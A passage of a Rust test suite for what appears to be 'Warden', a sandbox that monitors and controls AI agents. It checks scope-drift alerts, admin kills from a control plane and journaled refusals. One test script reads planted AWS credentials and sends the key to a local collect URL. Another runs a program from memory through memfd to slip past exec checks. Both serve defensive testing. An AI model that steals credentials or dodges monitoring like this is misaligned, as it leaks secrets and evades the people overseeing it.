except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
EOF"#
    );
    let (out, err) = run_ok(&s, &script);
    assert!(out.starts_with("403 Warden refused"), "{out}\n{err}");
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "Warden's port was reached"
    );
    let refused = s.decisions("http_request", "localhost");
    assert!(
        refused.iter().any(|d| d["effect"] == "deny"),
        "the refusal is journaled: {refused:?}"
    );
}

#[test]
fn a_program_outside_the_declared_scope_raises_a_scope_drift_alert() {
    let s = Sandbox::new(
        "\n[monitor.detectors.scope_drift]\n\
         tags = { \"/usr/bin/ls\" = [\"code\"], \"/usr/bin/id\" = [\"identity\"] }\n",
        "",
    );
    let out = s
        .command_with(
            &["--task", "list the sources", "--scope", "code"],
            "ls >/dev/null; id -u",
        )
        .output()
        .unwrap();
    let (stdout, stderr) = text(&out);
    // The default playbook logs a medium alert; it does not stop the agent.
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert_eq!(stdout, "1000\n");
    let records = s.journal();
    let started = records
        .iter()
        .find(|r| r.kind == "sandbox_started")
        .unwrap();
    assert_eq!(started.body["task"], "list the sources");
    assert_eq!(started.body["scope"], serde_json::json!(["code"]));
    let alerts: Vec<&JournalRecord> = records.iter().filter(|r| r.kind == "alert").collect();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0].body["detector"], "scope_drift");
    let cited = alerts[0].body["evidence"][0].as_u64().unwrap();
    let decision = records.iter().find(|r| r.seq == cited).unwrap();
    assert_eq!(decision.body["target"], "/usr/bin/id");
}

#[test]
fn a_planted_canary_seen_leaving_is_refused_at_once_and_the_agent_quarantined() {
    let (port, hits) = destination();
    let s = Sandbox::new(
        "egress_allow_loopback = true\n",
        r#"permit(principal == Agent::"bot", action == Action::"http_request", resource);"#,
    );
    // The agent finds the credentials Warden planted and tries to send one out.
    let script = format!(
        r#"python3 - <<'PY'
import configparser, os, urllib.request, urllib.error
os.environ.pop("no_proxy"); os.environ.pop("NO_PROXY")
creds = configparser.ConfigParser()
creds.read(os.path.expanduser("~/.aws/credentials"))
key = creds["default"]["aws_access_key_id"]
assert key == os.environ["AWS_ACCESS_KEY_ID"], "the file and the environment agree"
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{"http": os.environ["http_proxy"]}}))
try:
    print(opener.open("http://127.0.0.1:{port}/collect?k=" + key, timeout=20).read().decode())
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
PY
sleep 30; echo survived"#
    );
    let out = s.run(&script);
    let (stdout, stderr) = text(&out);
    assert_no_panic(&stderr);
    // The agent may not live to print the 403: its sandbox is killed at once.
    assert!(
        !stdout.contains("survived"),
        "the sandbox was killed: {stdout}\n{stderr}"
    );
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the canary left"
    );
    let records = s.journal();
    let refused = s.decisions("http_request", "127.0.0.1");
    assert_eq!(refused.len(), 1, "{records:?}");
    assert_eq!(refused[0]["effect"], "deny");
    assert!(
        refused[0]["reason"].as_str().unwrap().contains("canary"),
        "{refused:?}"
    );
    let alert = records.iter().find(|r| r.kind == "alert").unwrap();
    assert_eq!(alert.body["detector"], "data_loss");
    assert_eq!(alert.body["severity"], "critical");
    assert!(
        !alert.body["summary"].as_str().unwrap().contains("AKIA"),
        "{alert:?}"
    );
    assert!(records.iter().any(|r| r.kind == "quarantined"));
    assert!(records.iter().any(|r| r.kind == "sandbox_killed"));
    // The planted file stays Warden's: the next run refreshes it; a file of the agent's own
    // would not be touched.
    let planted = std::fs::read_to_string(s.path("workspaces/bot/.aws/credentials")).unwrap();
    assert!(planted.starts_with("# planted by Warden"));
}

/// `warden up` with a control plane over the sandbox's folder; its control address, once the
/// fleet view is ready.
fn control_plane(s: &Sandbox) -> (std::process::Child, std::net::SocketAddr) {
    use std::io::BufRead;
    let example = warden_bin().with_file_name("warden-example-files");
    let config = std::fs::read_to_string(s.path("warden.toml")).unwrap();
    std::fs::write(
        s.path("warden.toml"),
        format!(
            "[servers.files]\ncommand = [{:?}, \"--root\", \".\"]\n\n\
             [control]\nlisten = \"127.0.0.1:0\"\n\n{config}",
            example.to_str().unwrap()
        ),
    )
    .unwrap();
    let mut up = Command::new(warden_bin())
        .current_dir(s.dir.path())
        .args(["up", "--listen", "127.0.0.1:0"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Read to the end on a thread of its own: `warden up` stops when its stdout is closed,
    // and it goes on printing (an upstream ready) after the control plane is.
    let stdout = up.stdout.take().unwrap();
    let (found, address) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut control = None;
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if let Some(rest) = line.strip_prefix("warden: serving the control plane at http://") {
                control = rest.trim_end_matches("/api/v1").parse().ok();
            }
            if line.contains("control plane ready") {
                let _ = found.send(control);
            }
        }
    });
    let control = address
        .recv_timeout(Duration::from_secs(60))
        .ok()
        .flatten()
        .expect("warden up printed its control address and became ready");
    (up, control)
}

#[test]
fn an_admin_kills_an_agents_sandbox_from_the_control_plane() {
    use std::io::{Read, Write};
    let s = Sandbox::new("", "");
    let (mut up, control) = control_plane(&s);
    let added = Command::new(warden_bin())
        .current_dir(s.dir.path())
        .args(["user", "add", "ana", "--role", "admin"])
        .output()
        .unwrap();
    let (out, err) = text(&added);
    assert!(added.status.success(), "{err}");
    let admin = out
        .lines()
        .find(|l| l.starts_with("wdo_"))
        .unwrap()
        .to_owned();
    let mut child = s
        .command("i=0; while [ $i -lt 20 ]; do sleep 600 & i=$((i+1)); done; wait")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_until_populated(&s, 20);

    let body = r#"{"reason": "mining on the build host"}"#;
    let mut conn = std::net::TcpStream::connect(control).unwrap();
    write!(
        conn,
        "POST /api/v1/agents/bot/kill HTTP/1.1\r\nhost: {control}\r\n\
         authorization: Bearer {admin}\r\ncontent-type: application/json\r\n\
         content-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut answer = String::new();
    conn.read_to_string(&mut answer).unwrap();
    let _ = up.kill();
    let _ = up.wait();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.contains(r#""killed":true"#), "{answer}");
    let status = child.wait().unwrap();
    assert!(!status.success(), "the agent was killed");
    let killed: Vec<JournalRecord> = s
        .journal()
        .into_iter()
        .filter(|r| r.kind == "sandbox_killed")
        .collect();
    assert_eq!(killed.len(), 1, "{:?}", s.journal());
    assert_eq!(killed[0].agent.as_str(), "bot");
    assert_eq!(killed[0].body["by"], "operator:ana");
    assert_eq!(killed[0].body["reason"], "mining on the build host");
    assert!(killed[0].body["processes"].as_u64().unwrap() >= 20);
    let started = s
        .journal()
        .into_iter()
        .find(|r| r.kind == "sandbox_started")
        .unwrap();
    assert_eq!(
        killed[0].session, started.session,
        "under the sandbox's session"
    );
}

#[test]
fn a_path_search_goes_past_directories_without_the_program() {
    // The sandbox's PATH starts with /usr/local/bin, which the policy does not permit and
    // which (here) has no `true`: env's search must reach /usr/bin/true, as it would outside.
    let s = Sandbox::new("", "");
    let (out, err) = run_ok(
        &s,
        "PATH=/usr/local/bin/warden-nowhere:/usr/bin:/bin; /usr/bin/env true && echo found",
    );
    assert_eq!(out.trim(), "found", "{out}\n{err}");
    // The missing program is not a decision: nothing started, nothing to refuse.
    assert!(
        s.decisions("exec", "/usr/local/bin/warden-nowhere/true")
            .is_empty(),
        "{:?}",
        s.journal().iter().map(|r| &r.body).collect::<Vec<_>>()
    );
    assert_eq!(s.decisions("exec", "/usr/bin/true").len(), 1);
    // A missing program named outright fails as it would outside: not found.
    let (_, err) = run_ok(&s, "/usr/bin/warden-no-such-program; echo status $?");
    assert!(!err.contains("Operation not permitted"), "{err}");
}

#[test]
fn a_program_run_from_memory_is_still_decided_and_journaled() {
    // Fileless: the program exists only as an anonymous file; its path through /proc is not
    // one Warden can look up in the sandbox's view, so it is decided (and refused) as usual.
    let s = Sandbox::new("", "");
    let script = r#"python3 -c "
import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/true', 'rb').read())
try:
    os.execv('/proc/self/fd/%d' % fd, ['x'])
except OSError as e:
    print('refused', e.errno)
""#;
    let (out, err) = run_ok(&s, script);
    assert!(out.contains("refused 1"), "EPERM, not ENOENT: {out}\n{err}");
    let refused: Vec<Value> = s
        .journal()
        .into_iter()
        .filter(|r| r.kind == "decision")
        .map(|r| r.body)
        .filter(|b| b["action"] == "exec" && b["effect"] == "deny")
        .collect();
    assert_eq!(refused.len(), 1, "{:?}", s.journal());
}
